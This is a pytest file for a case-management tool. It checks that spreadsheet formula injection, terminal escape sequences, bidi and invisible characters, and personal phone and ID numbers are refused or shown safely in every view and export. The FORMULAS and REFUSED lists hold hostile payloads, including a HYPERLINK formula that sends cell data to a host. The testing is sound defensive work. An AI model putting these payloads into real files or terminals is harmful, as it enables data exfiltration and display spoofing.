"""Hostile text through every door, and every output of the book it makes.

A book of the four real kinds is written through the API, the command line and ``import`` with
every free-text field (details, entry data, party names, the note, the actor; a mediation
committee's name) holding each hostile string in turn: spreadsheet formulas and personal numbers
in every written form. What the door refuses (ESC, OSC, C1, bidi overrides, zero-width and other
invisible characters) is refused by field name, through each door, and never echoed. Then every
view in zh and en (tables with rich's colours forced on, and ``--json``), every export and report
format, the mediation roster and the legal-aid subsidy table, and every error path are read:

- no clear number: every decimal digit of the output folded to ASCII, none of the planted
  numbers is there;
- no live formula: no XLSX cell of type ``f`` (openpyxl), no CSV cell starting ``= + - @`` tab
  or CR;
- no control character outside rich's own styling (its CSI sequences removed first).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner, Result
from realkinds import CODES, KINDS, RECEIVED, free_text_paths, put, register_committee, seed

import casework

D = dt.date

FORMULAS = [
    '=HYPERLINK("http://127.0.0.1/?q="&N2,"open")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "=1+1",
]
NUMBERS = [
    "+8613812345678",
    "138 1234 5678",
    "138-1234-5678",
    "0086 138.1234.5678",
    "１３８１２３４５６７８",
    "电话١٣٨١٢٣٤٥٦٧٨联系",
    "(0358)722-1234",
    "0358-7221234",
    "+86 358 7221234",
    "110105 19491231 002X",
    "身份证11010519491231002x号",
    "110105-491231-002",
    "旧证110105491231002",
    "住址某村，电话 138 1234 5678，身份证 110105194912310 02X",
]
ACCEPTED = FORMULAS + NUMBERS
PLANTED = [
    "13812345678",
    "03587221234",
    "3587221234",
    "11010519491231002X",
    "110105491231002",
    "142301199001011235",
    "13912345678",
]
"""The personal numbers inside the hostile strings and the parties, as ASCII digits."""
REFUSED = {
    "ESC": "x\x1b[2Jy",
    "OSC": "\x1b]0;pwned\x07",
    "C1 CSI": "a\x9b2Jb",
    "RLO": "abc\u202edef",
    "ZWSP": "张\u200b三",
    "BOM": "\ufeff甲",
}

SGR = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\r(?=\x1b\[)")
"""Rich's own control: CSI sequences (colours, the progress bar's cursor) and its line redraw."""
_CONTROL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u200b-\u200f\u202a-\u202e\u2060-\u2064"
    "\u2066-\u206f\ufeff]"
)
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def folded(text: str) -> str:
    """Every decimal digit (any script) as ASCII and every X; all else dropped."""
    out = []
    for char in text:
        value = unicodedata.decimal(char, None)
        if value is not None:
            out.append(str(value))
        elif char in "Xx":
            out.append("X")
    return "".join(out)


def assert_clean(name: str, text: str, *, tabs: bool = False) -> None:
    """No planted number, no control character outside rich's styling (tabs where data)."""
    digits = folded(text)
    leaks = [n for n in PLANTED if n in digits]
    assert leaks == [], (name, leaks)
    bare = SGR.sub("", text)
    found = _CONTROL.search(bare.replace("\t", "") if tabs else bare)
    assert found is None, (name, hex(ord(found.group(0))), bare[max(0, found.start() - 60) :][:120])


def assert_no_formula(name: str, path: Path) -> None:
    """No live formula in a CSV or XLSX file casework wrote."""
    if path.suffix == ".xlsx":
        workbook = openpyxl.load_workbook(path)
        live = [
            f"{sheet.title}!{cell.coordinate}"
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]
        assert live == [], (name, live)
    elif path.suffix == ".csv":
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        bad = [cell for row in rows for cell in row if cell.startswith(_FORMULA_START)]
        assert bad == [], (name, bad)


def text_of(path: Path) -> str:
    """A file's text: the XML parts of an XLSX or DOCX (tags removed), else UTF-8."""
    data = path.read_bytes()
    if data[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            xml = " ".join(
                archive.read(n).decode("utf-8", "replace")
                for n in archive.namelist()
                if n.endswith(".xml")
            )
        return re.sub(r"<[^>]+>", " ", xml)
    return data.decode("utf-8-sig")


def _line(value: str) -> str:
    """A hostile string as a one-line name takes it (the name rules refuse tab and newline)."""
    return value.replace("\t", " ").replace("\n", " ")


def hostile_args(kind: str, value: str, paths: list[tuple[str, ...]]) -> dict[str, Any]:
    """The seed of ``kind`` with every free-text field, party name, note and actor = ``value``."""
    args = seed(kind)
    for path in paths:
        args = put(args, path, value)
    parties = [dict(p) for p in args["parties"]]
    parties[0].update(name=_line(value), id_number="11010519491231002X", phone="13812345678")
    return {**args, "parties": parties, "note": value, "actor": _line(value)[:100]}


# -- the book ----------------------------------------------------------------------------------


def cli(root: Path, *args: str, color: bool = False) -> Result:
    from casework.cli import cli as group

    env = {"CASEWORK_ACTOR": "王科员", "COLUMNS": "100"}
    if color:
        env["FORCE_COLOR"] = "1"
    result = CliRunner().invoke(group, ["--book", str(root), *args], env=env)
    casework.set_language("zh")
    return result


@pytest.fixture(scope="module")
def paths() -> dict[str, list[tuple[str, ...]]]:
    return {kind: free_text_paths(kind) for kind in KINDS}


@pytest.fixture(scope="module")
def hostile_book(
    tmp_path_factory: pytest.TempPathFactory, paths: dict[str, list[tuple[str, ...]]]
) -> Iterator[Path]:
    root = tmp_path_factory.mktemp("hostile-text") / "book"
    with casework.open_book(root) as book:
        register_committee(book, name=FORMULAS[0] + " 电话 138 1234 5678")
        for kind in KINDS:
            for value in ACCEPTED:  # through the API
                case = book.create(
                    kind, received_on=RECEIVED, **hostile_args(kind, value, paths[kind])
                )
                if kind == "mediation":
                    book.act(case.id, "mediate", on=D(2020, 3, 3), actor="王调解", note=value)
                    book.act(
                        case.id, "succeed", on=D(2020, 3, 4), actor="王调解", data={"form": "oral"}
                    )
    for kind in KINDS:  # through the command line
        for value in ACCEPTED:
            args = hostile_args(kind, value, paths[kind])
            line = [
                "new",
                kind,
                "--received-on",
                "2020-04-01",
                "--actor",
                args["actor"],
                "--note",
                args["note"],
                "--party-json",
                json.dumps(args["parties"], ensure_ascii=False),
                "--details-json",
                json.dumps(args.get("details") or {}, ensure_ascii=False),
            ]
            if args.get("action"):
                line += ["--action", args["action"]]
            if args.get("data"):
                line += ["--data-json", json.dumps(args["data"], ensure_ascii=False)]
            result = cli(root, *line)
            assert result.exit_code == 0, (kind, value, result.output)
    # through import: a CSV of one row per kind and hostile string
    rows = []
    for kind in KINDS:
        for value in ACCEPTED:
            args = hostile_args(kind, value, paths[kind])
            rows.append(
                {
                    "kind": kind,
                    "received_on": "2020-05-06",
                    "actor": args["actor"],
                    "note": args["note"],
                    "action": args.get("action") or "",
                    "parties": json.dumps(args["parties"], ensure_ascii=False),
                    "details": json.dumps(args.get("details") or {}, ensure_ascii=False),
                    "data": json.dumps(args.get("data") or {}, ensure_ascii=False),
                }
            )
    source = root.parent / "import.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = cli(root, "import", str(source), "--allow-duplicates")
    assert result.exit_code == 0, result.output
    yield root


# -- the door refuses, by field, through each door ----------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_the_api_refuses_by_field_name(kind: str, paths: dict[str, list[tuple[str, ...]]]) -> None:
    book = casework.open_book(":memory:")
    register_committee(book)
    fields = [*paths[kind], ("note",), ("actor",), ("parties", "0", "name")]
    for name, bad in REFUSED.items():
        for path in fields:
            args = seed(kind)
            if path[0] == "parties":
                args["parties"] = [{**args["parties"][0], "name": bad}, *args["parties"][1:]]
                field = "parties[0].name"
            elif len(path) == 1:
                args[path[0]] = bad
                field = path[0]
            else:
                args = put(args, path, bad)
                field = ".".join(path)
            with pytest.raises(casework.ValidationError) as caught:
                book.create(kind, received_on=RECEIVED, **args)
            message = str(caught.value)
            assert field in message, (kind, name, field, message)
            assert bad not in message, (kind, name, message)
        with pytest.raises(casework.ValidationError, match="committee|mediation_committees"):
            register_committee(book, name=f"调委会{bad}")
    assert book.ids() == []


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_the_command_line_refuses_by_field_name(name: str, tmp_path: Path) -> None:
    root = tmp_path / "book"
    assert cli(root, "init").exit_code == 0
    bad = REFUSED[name]
    base = ["new", "litigation", "--received-on", "2020-03-02", "--set", "defendant=某局"]
    base += ["--party", "plaintiff:张三"]
    for extra, field in (
        (["--note", bad], "note"),
        (["--actor", bad], "actor"),
        (["--set", f"court={bad}"], "details.court"),
        (["--party", f"plaintiff:{bad}"], "parties[1].name"),
    ):
        result = cli(root, *base, *extra, color=True)
        assert result.exit_code == 1, result.output
        assert field in result.stderr, (field, result.stderr)
        assert_clean(f"new {field}", result.output)
    with casework.open_book(root) as book:
        assert book.ids() == []


def test_import_refuses_by_row_and_field(tmp_path: Path) -> None:
    root = tmp_path / "book"
    assert cli(root, "init").exit_code == 0
    source = tmp_path / "bad.csv"
    rows = [
        [
            "kind",
            "received_on",
            "actor",
            "note",
            "party.1.role",
            "party.1.name",
            "details.defendant",
        ]
    ]
    for bad in REFUSED.values():
        rows.append(["litigation", "2020-03-02", "王", bad, "plaintiff", "张三", "某局"])
        rows.append(["litigation", "2020-03-02", "王", "", "plaintiff", bad, "某局"])
        rows.append(["litigation", "2020-03-02", "王", "", "plaintiff", "张三", bad])
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    table = cli(root, "import", str(source), color=True)
    assert table.exit_code == 1
    assert_clean("import table", table.output)
    result = cli(root, "--json", "import", str(source))
    errors = json.loads(result.stdout)["errors"]
    by_line = {(e["line"], e["field"]) for e in errors}
    for n in range(len(REFUSED)):
        line = 2 + 3 * n
        assert (line, "note") in by_line
        assert (line + 1, "parties[0].name") in by_line
        assert (line + 2, "details.defendant") in by_line
    assert_clean("import json", result.output)


# -- what it accepts shows safely everywhere ------------------------------------------------------


def test_the_accepted_strings_are_stored_as_given(hostile_book: Path) -> None:
    with casework.open_book(hostile_book) as book:
        cases = book.find()
        assert len(cases) == 3 * len(KINDS) * len(ACCEPTED)
        notes = {c.events[0].note for c in cases}
    # NFKC folded the full-width digits; the rest is kept as typed
    assert "13812345678" in notes and FORMULAS[0] in notes and "电话١٣٨١٢٣٤٥٦٧٨联系" in notes


def test_every_view_in_both_languages(hostile_book: Path) -> None:
    with casework.open_book(hostile_book) as book:
        ids = book.ids()
    for lang in ("zh", "en"):
        pages = [["list", "--on", "2020-12-31", "--page", str(n)] for n in range(1, 6)]
        for args in (
            *pages,
            ["due", "--on", "2020-03-05", "--within", "400"],
            ["dashboard", "--on", "2020-12-31"],
            ["report", "--year", "2020"],
            ["kinds"],
            ["subsidy", "--year", "2020"],
            ["committees", "list"],
            ["lawyer-subsidy", "--year", "2020", "--cases"],
        ):
            for json_flag in ([], ["--json"]):
                result = cli(hostile_book, "--lang", lang, *json_flag, *args, color=True)
                assert result.exit_code == 0, (args, result.output)
                assert_clean(f"{lang} {json_flag} {args}", result.output)
        for case_id in ids:
            for json_flag in ([], ["--json"]):
                result = cli(hostile_book, "--lang", lang, *json_flag, "show", case_id, color=True)
                assert result.exit_code == 0, result.output
                assert_clean(f"show {case_id} {lang} {json_flag}", result.output)


def test_every_export_and_report(hostile_book: Path, tmp_path: Path) -> None:
    outputs: list[Path] = []
    for fmt in ("json", "csv", "xlsx"):
        target = tmp_path / f"export.{fmt}"
        result = cli(hostile_book, "export", "--output", str(target))
        assert result.exit_code == 0, result.output
        outputs.append(target)
    for lang in ("zh", "en"):
        for fmt in ("md", "json", "xlsx", "docx"):
            target = tmp_path / f"report-{lang}.{fmt}"
            result = cli(
                hostile_book, "--lang", lang, "report", "--year", "2020", "--format", fmt,
                "--output", str(target),
            )  # fmt: skip
            assert result.exit_code == 0, result.output
            outputs.append(target)
    for fmt in ("xlsx", "json"):
        target = tmp_path / f"roster.{fmt}"
        result = cli(
            hostile_book, "subsidy", "--year", "2020", "--format", fmt, "--output", str(target)
        )
        assert result.exit_code == 0, result.output
        outputs.append(target)
    for path in outputs:
        assert_clean(path.name, text_of(path), tabs=True)
        assert_no_formula(path.name, path)
    roster = openpyxl.load_workbook(tmp_path / "roster.xlsx")
    names = [c.value for s in roster.worksheets for r in s.iter_rows() for c in r]
    assert any(isinstance(v, str) and v.startswith("=HYPERLINK") for v in names)  # as text


def test_exported_csv_reads_back_as_written(hostile_book: Path, tmp_path: Path) -> None:
    target = tmp_path / "all.csv"
    assert cli(hostile_book, "export", "--output", str(target), "--unmask").exit_code == 0
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    notes = {r.get("details.defendant") for r in rows if r["kind"] == "litigation"}
    assert "'" + FORMULAS[0] in notes  # written as text, OWASP's way


# -- every error path ---------------------------------------------------------------------------

ERROR_INPUTS = [n for n in NUMBERS if re.search(r"\d", n)]


def test_every_error_path(hostile_book: Path, tmp_path: Path) -> None:
    shifted = tmp_path / "shifted.csv"
    with shifted.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["kind", "received_on", "actor", "party.1.role", "party.1.name"])
        for value in ERROR_INPUTS:  # the columns slipped: a number where the date should be
            writer.writerow(["litigation", value, "王", "plaintiff", "张三"])
    for lang in ("zh", "en"):
        for value in ERROR_INPUTS:
            for args in (
                ["show", value],
                ["--debug", "show", value],
                ["new", "litigation", "--received-on", value, "--set", "defendant=某局"],
                ["new", "reconsideration", "--set", f"learned_on={value}"],
                ["new", "litigation", "--party", value],
                ["new", "litigation", "--set", f"{value}=x"],
                ["new", "litigation", "--set", "defendant=某局", "--set", f"instance={value}"],
                ["act", f"{CODES['litigation']}2020-0001", "file_defence", "--on", value],
                ["list", "--on", value],
                ["report", "--year", value],
            ):
                for json_flag in ([], ["--json"]):
                    result = cli(hostile_book, "--lang", lang, *json_flag, *args, color=True)
                    assert result.exit_code in (1, 2), (args, result.output)
                    assert_clean(f"{lang} {json_flag} {args}", result.output)
        for json_flag in ([], ["--json"]):
            result = cli(hostile_book, "--lang", lang, *json_flag, "import", str(shifted))
            assert result.exit_code == 1
            assert_clean(f"import shifted {lang} {json_flag}", result.output)


def test_old_records_with_control_characters_show_safely(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A record written before the door existed (here: with the door held open) shows inert."""
    import casework.workflow as workflow

    root = tmp_path / "book"
    with monkeypatch.context() as patched:
        patched.setattr(workflow, "_at_the_door", lambda _ct, _a, *rest: rest)
        with casework.open_book(root) as book:
            args = seed("litigation")
            args["details"]["court"] = "".join(REFUSED.values())
            book.create("litigation", received_on=RECEIVED, note=REFUSED["OSC"], **args)
    for args in (["show", "LT2020-0001"], ["list"], ["--json", "show", "LT2020-0001"]):
        result = cli(root, *args, color=True)
        assert result.exit_code == 0, result.output
        assert_clean(str(args), result.output)
    target = tmp_path / "old.xlsx"
    assert cli(root, "export", "--output", str(target)).exit_code == 0
    assert_no_formula("old.xlsx", target)
